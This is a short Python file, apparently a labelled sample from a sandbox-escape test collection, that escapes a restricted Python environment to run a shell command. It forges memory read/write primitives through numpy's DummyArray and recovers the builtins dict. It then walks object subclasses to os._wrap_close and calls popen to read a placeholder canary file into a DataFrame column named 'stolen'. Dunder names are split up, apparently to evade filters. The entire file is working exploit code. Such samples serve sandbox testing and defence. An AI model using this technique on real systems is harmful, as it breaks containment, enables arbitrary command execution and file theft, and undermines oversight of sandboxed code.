# class: subclass_walk
# technique: builtins['getattr'] from the forged dict walks object.__subclasses__() to os._wrap_close and popen (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

u = "_" * 2

get = builtin["getattr"]
wc = [c for c in get(object, u + "subclasses" + u)() if get(c, u + "name" + u) == "_wrap_close"][0]
df = pd.DataFrame({"stolen": [get(get(wc, u + "init" + u), u + "globals" + u)["popen"]("cat {{CANARY_FILE}}").read()]})
